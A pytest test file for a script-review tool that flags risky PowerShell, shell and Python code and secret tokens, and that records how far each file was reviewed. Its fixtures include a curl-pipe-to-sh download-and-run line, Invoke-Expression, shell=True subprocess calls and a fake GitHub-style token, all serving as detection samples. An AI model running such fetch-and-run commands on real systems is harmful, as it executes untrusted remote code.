"""Many files: what one of them does to its review costs only itself, and nobody's word is taken for what was reviewed."""

from __future__ import annotations

import os
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from include.contracts.script_review import Looked
from include.script_review.review import answer_unit
from include.script_review.run import Files, review_files, review_paths
from include.script_review.runner import InProcess, Outcome, Runner, Unit

TOKEN = "gh" + "p_" + "k8Rz2mVq7LxN4tYw9BcD1fGh6JsP3uAe5XoZ"


class Failing(InProcess):
    """Fails for units with a file named so, unless they are only looked at as text."""

    def __init__(self, name: str) -> None:
        super().__init__(answer_unit)
        self.name = name

    def _outcomes(self, units: Iterator[Unit], count: Callable[[], None]) -> Iterator[Outcome]:
        for unit, outcome in [(unit, next(iter(super(Failing, self)._outcomes(iter([unit]), count)))) for unit in units]:
            bad = any(path.endswith(self.name) for path in unit.options["members"]) and unit.options["cut"] is None
            yield Outcome(outcome.index, outcome.paths, None, "it took more than 20 seconds", 20.0) if bad else outcome


class Lying(InProcess):
    """Answers with what it is told to."""

    def __init__(self, said: Any) -> None:
        super().__init__(lambda files, options: said)


def reviews(files: dict[str, bytes], runner: Runner) -> list[Any]:
    return [one for found in review_files([lambda: Files(files, {})], runner=runner) for one in found]


def test_a_file_that_takes_too_long_costs_only_itself_and_is_still_looked_at_for_secrets() -> None:
    slow = f"$token = '{TOKEN}'\nInvoke-Expression $x\n".encode()
    found = reviews({"a.ps1": b"Invoke-Expression $x\n", "slow.ps1": slow}, Failing("slow.ps1"))
    good, bad = found
    assert good.coverage.looked is Looked.FULL
    assert "ps-invoke-expression" in {one.rule for one in good.findings}
    assert bad.coverage.looked is Looked.TEXT
    assert any("more than 20 seconds" in note for note in bad.coverage.notes)
    assert {one.rule for one in bad.findings} == {"coverage-file", "secret-token-format"}


@pytest.mark.parametrize(
    "said",
    [
        None,
        [],
        [{}],
        3,
        "x",
        [{"path": "b.ps1", "language": "powershell", "digest": None, "coverage": {"looked": "full", "share": 1.0}}],
    ],
)
def test_an_answer_that_is_none_or_about_another_file_is_no_review(said: Any) -> None:
    (found,) = reviews({"a.ps1": b"Get-Date\n"}, Lying(said))
    assert found.path == "a.ps1"
    assert found.coverage.looked is Looked.NONE
    assert [one.rule for one in found.findings] == ["coverage-file"]


def test_a_file_alone_is_reviewed_with_the_tests_beside_it(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    module = "function Remove-Leaver { param($Name) Remove-ADUser -Identity $Name }\n"
    Path("Leaver.psm1").write_text(module)
    runner = InProcess(answer_unit)
    (alone,) = review_paths(["Leaver.psm1"], runner=runner).files
    assert "ps-no-tests" in {one.rule for one in alone.findings}
    Path("tests").mkdir()
    Path("tests/Leaver.Tests.ps1").write_text(
        "Describe 'x' { It 'y' { Mock Remove-ADUser; Remove-Leaver a; Should -Invoke Remove-ADUser } }\n"
    )
    review = review_paths(["Leaver.psm1"], runner=runner)
    assert [one.path for one in review.files] == ["Leaver.psm1"]
    assert "ps-no-tests" not in {one.rule for one in review.files[0].findings}


def test_what_a_linter_was_told_to_leave_is_counted_as_suppressed() -> None:
    text = b"import subprocess\nsubprocess.run(x, shell=True)  # noqa: S602 - x is a constant of ours\n"
    (found,) = reviews({"a.py": text}, InProcess(answer_unit))
    told = [one for one in found.findings if one.rule == "ruff-S602"]
    assert [bool(one.suppressed_by) for one in told] == [True]


def test_of_very_many_findings_the_gravest_are_kept_and_it_is_said() -> None:
    text = "Remove-Item $x -Force\n" * 3_000 + f"$token = '{TOKEN}'\n"
    (found,) = reviews({"a.ps1": text.encode()}, InProcess(answer_unit))
    assert found.coverage.looked is Looked.FULL
    assert len(found.findings) == 1_001
    assert "secret-token-format" in {one.rule for one in found.findings}
    assert any("the 1,000 gravest are listed" in one.message for one in found.findings)


def test_a_folder_is_reviewed_in_processes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "a.ps1").write_text("Invoke-Expression $x\n")
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub/b.sh").write_text("curl -s https://example.com/i.sh | sh\n")
    (tmp_path / "sub/c.py").write_text("import subprocess\nsubprocess.run(x, shell=True)\n")
    (tmp_path / "data.bin").write_bytes(os.urandom(4_000))
    seen: list[tuple[int, int | None]] = []
    review = review_paths(["."], progress=lambda done, of: seen.append((done, of)))
    by_path = {one.path: {finding.rule for finding in one.findings} for one in review.files}
    assert set(by_path) == {"a.ps1", "data.bin", "sub/b.sh", "sub/c.py"}
    assert "ps-invoke-expression" in by_path["a.ps1"]
    assert "sh-download-run" in by_path["sub/b.sh"]
    assert any(rule.startswith("ruff-S60") for rule in by_path["sub/c.py"])
    assert review.summary.files == 4
    assert seen[-1][0] == seen[-1][1]
